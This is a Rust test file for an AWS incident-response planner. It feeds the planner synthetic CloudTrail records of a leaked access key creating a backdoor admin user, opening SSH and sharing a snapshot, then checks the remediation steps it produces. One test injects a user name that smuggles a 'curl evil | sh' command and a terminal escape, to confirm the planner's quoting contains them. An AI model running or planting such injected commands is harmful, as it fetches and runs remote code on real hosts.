use trailguard_core::remedy::{Action, Phase, Principal, Resource};
use trailguard_core::Event;

use super::*;
use crate::{build, BuildOptions, Investigator, Options, Subject};

const LEAKED: &str = "AKIAWCZC6J72ODEC6IFU";
const SECOND: &str = "AKIAWCZC6J72CNUTOL7P";
const BACKDOOR_KEY: &str = "AKIAWCZC6J72AAAAAAAA";

fn rec(
    key: &str,
    user: &str,
    name: &str,
    source: &str,
    id: &str,
    region: &str,
    extra: &str,
) -> String {
    format!(
        r#"{{"eventVersion":"1.09","userIdentity":{{"type":"IAMUser","arn":"arn:aws:iam::418295730164:user/{user}","accountId":"418295730164","accessKeyId":"{key}","userName":"{user}"}},"eventTime":"2025-09-17T23:{:02}:00Z","eventSource":"{source}","eventName":"{name}","awsRegion":"{region}","sourceIPAddress":"198.51.100.73","userAgent":"aws-cli/2.15.30","eventID":"{id}","eventType":"AwsApiCall","recipientAccountId":"418295730164"{extra}}}"#,
        id.len() % 60
    )
}

/// The leaked key makes a second key, a backdoor admin user with a password, a key
/// and an MFA device, opens SSH, shares a snapshot, launches in two regions and
/// assumes a role; the backdoor user's key then launches more.
fn incident() -> Vec<String> {
    vec![
        rec(
            LEAKED,
            "admin",
            "GetCallerIdentity",
            "sts.amazonaws.com",
            "e-whoami",
            "us-east-1",
            "",
        ),
        rec(
            LEAKED,
            "admin",
            "CreateAccessKey",
            "iam.amazonaws.com",
            "e-key2",
            "us-east-1",
            &format!(
                r#","requestParameters":{{"userName":"admin"}},"responseElements":{{"accessKey":{{"accessKeyId":"{SECOND}","userName":"admin","status":"Active"}}}}"#
            ),
        ),
        rec(
            LEAKED,
            "admin",
            "CreateUser",
            "iam.amazonaws.com",
            "e-user",
            "us-east-1",
            r#","requestParameters":{"userName":"backdoor"}"#,
        ),
        rec(
            LEAKED,
            "admin",
            "CreateLoginProfile",
            "iam.amazonaws.com",
            "e-login",
            "us-east-1",
            r#","requestParameters":{"userName":"backdoor","password":"HIDDEN_DUE_TO_SECURITY_REASONS"}"#,
        ),
        rec(
            LEAKED,
            "admin",
            "AttachUserPolicy",
            "iam.amazonaws.com",
            "e-attach",
            "us-east-1",
            r#","requestParameters":{"userName":"backdoor","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}"#,
        ),
        rec(
            LEAKED,
            "admin",
            "PutUserPolicy",
            "iam.amazonaws.com",
            "e-inline",
            "us-east-1",
            r#","requestParameters":{"userName":"backdoor","policyName":"all","policyDocument":"{}"}"#,
        ),
        rec(
            LEAKED,
            "admin",
            "EnableMFADevice",
            "iam.amazonaws.com",
            "e-mfa",
            "us-east-1",
            r#","requestParameters":{"userName":"backdoor","serialNumber":"arn:aws:iam::418295730164:mfa/evil"}"#,
        ),
        rec(
            LEAKED,
            "admin",
            "CreateAccessKey",
            "iam.amazonaws.com",
            "e-bdkey",
            "us-east-1",
            &format!(
                r#","requestParameters":{{"userName":"backdoor"}},"responseElements":{{"accessKey":{{"accessKeyId":"{BACKDOOR_KEY}","userName":"backdoor"}}}}"#
            ),
        ),
        rec(
            LEAKED,
            "admin",
            "AuthorizeSecurityGroupIngress",
            "ec2.amazonaws.com",
            "e-sg",
            "eu-west-1",
            r#","requestParameters":{"groupId":"sg-0abc","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":22,"toPort":22,"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]}}]}}"#,
        ),
        rec(
            LEAKED,
            "admin",
            "ModifySnapshotAttribute",
            "ec2.amazonaws.com",
            "e-share",
            "us-east-1",
            r#","requestParameters":{"snapshotId":"snap-1","createVolumePermission":{"add":{"items":[{"group":"all"}]}}}"#,
        ),
        rec(
            LEAKED,
            "admin",
            "RunInstances",
            "ec2.amazonaws.com",
            "e-run1",
            "us-east-1",
            r#","responseElements":{"instancesSet":{"items":[{"instanceId":"i-0aaa","instanceType":"p3.16xlarge"}]}}"#,
        ),
        rec(
            LEAKED,
            "admin",
            "RunInstances",
            "ec2.amazonaws.com",
            "e-run2",
            "ap-south-1",
            r#","responseElements":{"instancesSet":{"items":[{"instanceId":"i-0bbb"},{"instanceId":"i-0ccc"}]}}"#,
        ),
        rec(
            LEAKED,
            "admin",
            "CreateRole",
            "iam.amazonaws.com",
            "e-role",
            "us-east-1",
            r#","requestParameters":{"roleName":"evil-role","assumeRolePolicyDocument":"{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::999988887777:root\"},\"Action\":\"sts:AssumeRole\"}]}"}"#,
        ),
        rec(
            LEAKED,
            "admin",
            "AssumeRole",
            "sts.amazonaws.com",
            "e-assume",
            "us-east-1",
            r#","requestParameters":{"roleArn":"arn:aws:iam::418295730164:role/Deployer"},"responseElements":{"credentials":{"accessKeyId":"ASIAWCZC6J72SESSION1","sessionToken":"tok"}}"#,
        ),
        rec(
            BACKDOOR_KEY,
            "backdoor",
            "RunInstances",
            "ec2.amazonaws.com",
            "e-run3",
            "sa-east-1",
            r#","responseElements":{"instancesSet":{"items":[{"instanceId":"i-0ddd"}]}}"#,
        ),
    ]
}

fn report_of(records: &[String]) -> crate::Report {
    let subject = Subject::access_key(LEAKED).unwrap();
    let inv = Investigator::new(subject.clone(), Options::default());
    for r in records {
        inv.observe(&Event::from_json(r.as_bytes()).unwrap());
    }
    build(&subject, &inv.finish(), vec![], &BuildOptions::default())
}

fn plan_of(records: &[String], destructive: bool) -> Plan {
    build_plan(
        &report_of(records),
        &PlanOptions {
            destructive,
            evidence_sources: vec!["logs/".into()],
        },
    )
}

fn find(p: &Plan, f: impl Fn(&Action) -> bool) -> Vec<&Step> {
    p.steps.iter().filter(|s| f(&s.action)).collect()
}

#[test]
fn every_thing_the_attacker_left_becomes_a_step_in_order() {
    let p = plan_of(&incident(), false);
    assert_eq!(p.subject, LEAKED);
    assert_eq!(p.owner.as_deref(), Some("admin"));
    assert_eq!(p.account.as_deref(), Some("418295730164"));
    // Phases never go backwards; numbering is 1..n.
    assert!(p.steps.windows(2).all(|w| w[0].phase <= w[1].phase));
    assert!(p.steps.iter().enumerate().all(|(i, s)| s.n == i + 1));

    let deact = find(&p, |a| matches!(a, Action::DeactivateAccessKey { .. }));
    let keys: Vec<(&str, Phase)> = deact
        .iter()
        .map(|s| match &s.action {
            Action::DeactivateAccessKey { access_key_id, .. } => (access_key_id.as_str(), s.phase),
            _ => unreachable!(),
        })
        .collect();
    assert!(keys.contains(&(LEAKED, Phase::DeactivateLeakedKey)));
    assert!(keys.contains(&(SECOND, Phase::DeactivateLineage)));
    assert!(keys.contains(&(BACKDOOR_KEY, Phase::DeactivateLineage)));
    assert_eq!(keys.len(), 3);

    // Sessions: the owner, the role it assumed, and the users given keys.
    let revoked: Vec<&Principal> = p
        .steps
        .iter()
        .filter_map(|s| match &s.action {
            Action::RevokeSessions { principal } => Some(principal),
            _ => None,
        })
        .collect();
    assert!(revoked.contains(&&Principal::User("admin".into())));
    assert!(revoked.contains(&&Principal::Role("Deployer".into())));
    assert!(revoked.contains(&&Principal::User("backdoor".into())));

    assert_eq!(
        find(
            &p,
            |a| matches!(a, Action::DeleteLoginProfile { user } if user == "backdoor")
        )
        .len(),
        1
    );
    assert_eq!(find(&p, |a| matches!(a, Action::DetachPolicy { policy_arn, .. } if policy_arn.ends_with("AdministratorAccess"))).len(), 1);
    assert_eq!(
        find(
            &p,
            |a| matches!(a, Action::DeleteInlinePolicy { policy_name, .. } if policy_name == "all")
        )
        .len(),
        1
    );
    assert_eq!(
        find(&p, |a| matches!(a, Action::DeactivateMfaDevice { .. })).len(),
        1
    );
    // Instances in three regions (one launched by the backdoor user's key), stopped.
    let stops = find(&p, |a| matches!(a, Action::StopInstances { .. }));
    let regions: Vec<&str> = stops
        .iter()
        .map(|s| match &s.action {
            Action::StopInstances { region, .. } => region.as_str(),
            _ => unreachable!(),
        })
        .collect();
    assert_eq!(regions, ["ap-south-1", "sa-east-1", "us-east-1"]);
    assert!(find(&p, |a| matches!(a, Action::TerminateInstances { .. })).is_empty());
    let sg = find(&p, |a| matches!(a, Action::RevokeSecurityGroupRule { .. }));
    assert_eq!(sg.len(), 1);
    assert!(sg[0].aws_cli[0].contains("--region eu-west-1 --group-id sg-0abc"));
    assert_eq!(
        find(
            &p,
            |a| matches!(a, Action::UnshareSnapshot { accounts, .. } if accounts == &["all"])
        )
        .len(),
        1
    );
    assert_eq!(
        find(
            &p,
            |a| matches!(a, Action::DisableUser { user } if user == "backdoor")
        )
        .len(),
        1
    );
    assert_eq!(
        find(
            &p,
            |a| matches!(a, Action::QuarantineRole { role } if role == "evil-role")
        )
        .len(),
        1
    );
    // The owner is never disabled, only its key.
    assert!(find(
        &p,
        |a| matches!(a, Action::DisableUser { user } if user == "admin")
    )
    .is_empty());
    // Evidence first: tags on the owner, the backdoor user, the role, the instances.
    let tags = find(&p, |a| matches!(a, Action::Tag { .. }));
    assert_eq!(tags.len(), 1 + 1 + 1 + 3);
    assert!(tags.iter().all(|s| s.phase == Phase::KeepEvidence));
    // Every step that changes something says why and carries its command.
    for s in p.actionable() {
        assert!(
            !s.reason.is_empty() && !s.risk.is_empty() && !s.aws_cli.is_empty(),
            "{s:?}"
        );
    }
    let login = find(&p, |a| matches!(a, Action::DeleteLoginProfile { .. }));
    assert_eq!(login[0].because, ["e-login"]);
    // Follow-ups a person must do.
    let manual: Vec<&str> = p
        .steps
        .iter()
        .filter(|s| s.action.is_manual())
        .map(|s| s.title.as_str())
        .collect();
    assert!(manual
        .iter()
        .any(|t| t.starts_with("Rotate AKIAWCZC6J72ODEC6IFU")));
    assert!(manual.iter().any(|t| t.contains("billing")));
    assert!(manual.iter().any(|t| t.contains("support case")));
}

#[test]
fn destructive_plans_delete_after_the_evidence_is_tagged() {
    let p = plan_of(&incident(), true);
    assert!(p.destructive);
    let term = find(&p, |a| matches!(a, Action::TerminateInstances { .. }));
    assert_eq!(term.len(), 3);
    for t in &term {
        let Action::TerminateInstances {
            region,
            instance_ids,
        } = &t.action
        else {
            unreachable!()
        };
        assert!(t.destructive);
        assert_eq!(t.depends_on.len(), 1);
        let tag = &p.steps[t.depends_on[0] - 1];
        assert_eq!(
            tag.action,
            Action::Tag {
                resource: Resource::Instances {
                    region: region.clone(),
                    ids: instance_ids.clone()
                },
                tags: [(INCIDENT_TAG.to_string(), LEAKED.to_string())].into()
            }
        );
    }
    let del = find(&p, |a| matches!(a, Action::DeleteUser { .. }));
    assert_eq!(del.len(), 1);
    assert!(
        matches!(&p.steps[del[0].depends_on[0] - 1].action, Action::Tag { resource: Resource::User { name }, .. } if name == "backdoor")
    );
    assert_eq!(
        find(&p, |a| matches!(a, Action::DeleteRole { .. })).len(),
        1
    );
}

#[test]
fn the_same_input_gives_the_same_plan_in_any_order() {
    let mut records = incident();
    let a = plan_of(&records, false);
    records.reverse();
    let b = plan_of(&records, false);
    assert_eq!(a, b);
    assert_eq!(
        serde_json::to_string(&a).unwrap(),
        serde_json::to_string(&b).unwrap()
    );
}

#[test]
fn a_quiet_key_gets_the_key_and_the_follow_ups_only() {
    let p = plan_of(&incident()[..1], false);
    let kinds: Vec<&str> = p.actionable().map(|s| s.title.as_str()).collect();
    assert_eq!(
        kinds,
        [
            "Tag the key's owner admin as evidence",
            "Deactivate the leaked key AKIAWCZC6J72ODEC6IFU",
            "Revoke sessions of user/admin issued before now"
        ]
    );
}

#[test]
fn renderings_carry_every_step_and_no_session_token() {
    let p = plan_of(&incident(), false);
    let mut table = Vec::new();
    write_plan_table(&mut table, &p).unwrap();
    let table = String::from_utf8(table).unwrap();
    let mut md = Vec::new();
    write_plan_markdown(&mut md, &p).unwrap();
    let md = String::from_utf8(md).unwrap();
    for s in &p.steps {
        assert!(table.contains(&format!("{:>3}. ", s.n)), "{}", s.title);
        assert!(md.contains(&format!("{}. **", s.n)));
    }
    assert!(table.contains("dry run"));
    assert!(table.contains("$ aws iam update-access-key --user-name admin --access-key-id AKIAWCZC6J72ODEC6IFU --status Inactive"));
    let json = serde_json::to_string(&p).unwrap();
    for out in [&table, &md, &json] {
        assert!(!out.contains("\"tok\"") && !out.contains("sessionToken"));
    }
}

#[test]
fn hostile_names_cannot_break_out_of_the_commands() {
    let evil = r#","requestParameters":{"userName":"x'; curl evil | sh; echo '\u001b[2J"}"#;
    let records = vec![rec(
        LEAKED,
        "admin",
        "CreateUser",
        "iam.amazonaws.com",
        "e-u",
        "us-east-1",
        evil,
    )];
    let p = plan_of(&records, false);
    let s = find(&p, |a| matches!(a, Action::DisableUser { .. }));
    assert_eq!(s.len(), 1);
    for c in &s[0].aws_cli {
        // Quoted as one word for a shell.
        assert!(c.contains(r"'x'\''; curl evil | sh; echo '\''"), "{c}");
    }
    let mut table = Vec::new();
    write_plan_table(&mut table, &p).unwrap();
    assert!(!String::from_utf8(table).unwrap().contains('\u{1b}'));
}
